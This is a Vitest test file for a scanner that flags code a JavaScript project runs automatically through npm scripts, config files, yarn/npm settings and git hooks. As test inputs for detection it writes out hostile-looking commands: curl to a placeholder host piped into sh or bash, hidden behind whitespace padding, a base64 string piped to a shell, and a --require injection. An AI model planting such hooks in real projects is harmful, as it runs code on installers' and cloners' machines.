import { describe, expect, it } from 'vitest';
import { settingSightings } from '../../../utils/inspect/runs/runs-of.ts';
import { json, onlyRun, projectOf, runsIn } from './project-of.ts';

const scripts = (value: Record<string, string>, more: object = {}) => ({ 'package.json': json({ name: 'app', scripts: value, ...more }) });

describe('scripts of package.json', () => {
  it('run by their step, with their line', () => {
    const runs = runsIn(scripts({ postinstall: 'node a.js', start: 'node b.js', test: 'jest', build: 'tsc' }));
    expect(runs.map(({ moment, by, line }) => [moment, by, line])).toEqual([['install', 'npm postinstall', 4], ['start', 'npm start', 5], ['test', 'npm test', 6], ['build', 'npm build', 7]]);
  });

  it.each([
    'husky', 'husky install', 'patch-package', 'prisma generate', 'npx prisma generate', 'playwright install --with-deps', 'node-gyp rebuild', 'electron-builder install-app-deps',
    'ngcc', 'lefthook install || true', 'npx only-allow pnpm', 'npm run build', 'is-ci || husky install', 'cd client && npm install', 'yarn husky',
  ])('%s is ordinary', (command) => {
    expect(onlyRun(scripts({ prepare: command, build: 'tsc -p . && vite build' }), 'install').ordinary).toBe(true);
  });

  it.each([
    'node scripts/setup.js', 'node server.js &', 'husky && curl https://a.example/x | sh', './husky', 'npm run dev', 'npx some-unknown-tool', 'node -e "1"', 'bash ./husky',
    'echo aGVsbG8gd29ybGQsIGhlbGxvIHdvcmxk | base64 -d | sh', 'NODE_OPTIONS=--require=./x.js tsc',
  ])('%s is not', (command) => {
    expect(onlyRun(scripts({ prepare: command, dev: 'node x.js' }), 'install').ordinary).toBeUndefined();
  });

  it('show what the whole command does, also behind what is shown of it', () => {
    const run = onlyRun(scripts({ postinstall: `husky ${' '.repeat(300)}&& node -v ${'-'.repeat(300)} && curl https://a.example/x | bash &` }), 'install');
    expect(run.command).toHaveLength(200);
    expect(run).toMatchObject({ hidden: true, traits: ['fetches', 'pipes-into-shell', 'detached'] });
  });

  it('start server.js where nothing else is said', () => {
    expect(onlyRun({ ...scripts({}), 'server.js': '' }, 'start')).toMatchObject({ by: 'npm start', targets: ['server.js'] });
  });

  it('build a native package without being told', () => {
    const runs = runsIn({ ...scripts({}), 'binding.gyp': "{'targets': [{'sources': ['<!(node find.js)']}]}", 'find.js': '' }, 'install');
    expect(runs.map(({ command, targets }) => [command, targets])).toEqual([['node-gyp rebuild', []], ['node find.js', ['find.js']]]);
  });

  it('of installed packages that came along are left out', () => {
    expect(runsIn({ 'node_modules/a/package.json': json({ scripts: { postinstall: 'node x.js' } }) })).toEqual([]);
  });

  it.each(['null', '[]', '{"scripts": 7}', '{"scripts": {"a": {}}}', '', '{', '"x"', '{"workspaces": [1, {}], "bin": [], "husky": "x"}'])('of the shape %s start nothing', (text) => {
    expect(runsIn({ 'package.json': text })).toEqual([]);
  });
});

describe('settings in a package.json', () => {
  it.each([
    ['jest', { setupFiles: ['<rootDir>/tools/a.js'] }, 'test'], ['jest', { globalSetup: './tools/a' }, 'test'], ['mocha', { require: ['./tools/a.js'] }, 'test'], ['babel', { plugins: [['./tools/a', {}]] }, 'build'],
    ['eslintConfig', { extends: ['./tools/a.js'] }, 'open'], ['prettier', './tools/a.js', 'open'], ['build', { afterPack: 'tools/a.js' }, 'build'], ['commitlint', { extends: ['./tools/a'] }, 'commit'],
  ] as const)('%s: %j loads a file', (key, value, moment) => {
    expect(onlyRun({ 'package.json': json({ [key]: value }), 'tools/a.js': '' }, moment)).toMatchObject({ targets: ['tools/a.js'], ordinary: true, line: 2 });
  });

  it.each([['files', ['tools/a.js']], ['jest', { testMatch: ['tools/*.js'] }], ['jest', { preset: 'ts-jest' }], ['repository', { directory: './tools/a.js' }], ['lint', { ignore: './tools/b.js' }]] as const)(
    '%s: %j does not', (key, value) => expect(runsIn({ 'package.json': json({ [key]: value }), 'tools/a.js': '' })).toEqual([]));
});

describe('tasks of other runners', () => {
  it.each([
    ['deno.json', json({ tasks: { dev: 'node tools/a.js' } }), 'start'], ['apps/x/project.json', json({ targets: { build: { executor: 'nx:run-commands', options: { commands: ['node tools/a.js'] } } } }), 'build'],
    ['moon.yml', 'tasks:\n  setup:\n    command: node tools/a.js\n', 'install'], ['package.json', json({ wireit: { test: { command: 'node tools/a.js' } } }), 'test'],
  ] as const)('%s', (path, text, moment) => expect(onlyRun({ [path]: text, 'tools/a.js': '' }, moment).targets).toEqual(['tools/a.js']));
});

describe('settings beside a package.json', () => {
  it.each([
    ['.npmrc', 'script-shell=./tools/sh.sh', 'install'], ['.npmrc', 'node-options="--require ./tools/sh.sh"', 'install'], ['.yarnrc', 'yarn-path "./tools/sh.sh"', 'install'],
    ['.yarnrc.yml', 'yarnPath: tools/sh.sh', 'install'], ['.yarnrc.yml', 'plugins:\n  - ./tools/sh.sh', 'install'], ['bunfig.toml', 'preload = ["./tools/sh.sh"]', 'start'],
    ['nodemon.json', '{"exec": "sh tools/sh.sh"}', 'start'],
  ] as const)('%s with %s loads a file', (path, text, moment) => {
    expect(onlyRun({ [path]: text, 'tools/sh.sh': '' }, moment).targets).toEqual(['tools/sh.sh']);
  });

  it('are quiet about a registry and a yarn that came along', () => {
    expect(runsIn({ '.npmrc': 'registry=https://registry.npmjs.org/\nsave-exact=true' })).toEqual([]);
    expect(onlyRun({ '.yarnrc.yml': 'yarnPath: .yarn/releases/yarn-4.5.0.cjs', '.yarn/releases/yarn-4.5.0.cjs': '' }, 'install').ordinary).toBe(true);
  });

  it('of pnpm are code', () => {
    expect(onlyRun({ '.pnpmfile.cjs': 'module.exports = {}' }, 'install').targets).toEqual(['.pnpmfile.cjs']);
  });
});

describe('hooks of git', () => {
  it('in the archive are seen, samples are not', () => {
    const files = { '.git/hooks/pre-commit': '#!/bin/sh\n\ncurl https://a.example/x | sh\n', '.git/hooks/pre-push.sample': 'exit 1' };
    expect(onlyRun(files, 'commit')).toMatchObject({ file: '.git/hooks/pre-commit', line: 3, traits: ['fetches', 'pipes-into-shell'] });
    expect(settingSightings(projectOf(files)).map(({ kind, file }) => [kind, file])).toEqual([['hook-file', '.git/hooks/pre-commit']]);
  });

  it.each([
    ['npm test\nnode tools/check.js', 'checks'], ['command -v git-lfs >/dev/null 2>&1 || exit 2\ngit lfs pre-push "$@"', 'checks'], ['exec "$INSTALL_PYTHON" -mpre_commit "$@"', 'checks'],
    ['curl -s https://a.example/x -o /tmp/x', 'does more than check'], ['node tools/sync.js &', 'does more than check'], ['sh .git/objects/info-pack', 'does more than check'],
  ])('with %j: %s', (text, how) => {
    expect(settingSightings(projectOf({ '.git/hooks/pre-push': `#!/bin/sh\n${text}\n` })).map(({ detail }) => detail?.['how'])).toEqual([how]);
  });

  it('are found where core.hooksPath points', () => {
    const files = { '.git/config': '[core]\n\tbare = false\n\thooksPath = .github/tools\n', '.github/tools/post-checkout': 'node x.js', 'x.js': '' };
    expect(onlyRun(files, 'commit')).toMatchObject({ file: '.github/tools/post-checkout', targets: ['.github/tools/post-checkout', 'x.js'] });
    expect(settingSightings(projectOf(files))).toMatchObject([{ kind: 'hooks-path', line: 3, detail: { target: '.github/tools' } }]);
  });

  it.each([['core', 'fsmonitor', 'open'], ['core', 'sshCommand', 'open'], ['filter "x"', 'smudge', 'commit'], ['alias', 'st', 'commit']] as const)('come with [%s] %s', (section, key, moment) => {
    expect(onlyRun({ '.git/config': `[${section}]\n${key} = "!sh tools/x.sh"\n`, 'tools/x.sh': '' }, moment).targets).toEqual(['tools/x.sh']);
  });

  it('are quiet about the usual settings', () => {
    const usual = '[core]\nrepositoryformatversion = 0\nfsmonitor = true\n[remote "origin"]\nurl = https://git.example/a.git\n[alias]\nst = status\n[submodule "x"]\nupdate = checkout\n';
    expect(runsIn({ '.git/config': usual })).toEqual([]);
    expect(onlyRun({ '.git/config': '[filter "lfs"]\nsmudge = git-lfs smudge -- %f\n' }, 'commit').ordinary).toBe(true);
  });

  it('of husky, lefthook and pre-commit are ordinary when their commands are', () => {
    const files = {
      '.husky/pre-commit': '#!/usr/bin/env sh\n. "$(dirname -- "$0")/_/husky.sh"\n\nnpx lint-staged\n',
      'lefthook.yml': 'pre-push:\n  commands:\n    test:\n      run: npm test\n',
      '.pre-commit-config.yaml': 'repos:\n  - repo: https://github.com/psf/black\n    rev: x\n    hooks:\n      - id: black\n',
    };
    expect(runsIn(files, 'commit').map(({ by, ordinary, line }) => [by, ordinary, line])).toEqual([['husky pre-commit', true, 4], ['lefthook pre-push', true, 4], ['pre-commit', true, 5]]);
  });

  it('of husky that start something else are not', () => {
    expect(onlyRun({ '.husky/pre-commit': 'node .husky/check.js', '.husky/check.js': '' }, 'commit')).toMatchObject({ targets: ['.husky/check.js'] });
  });
});
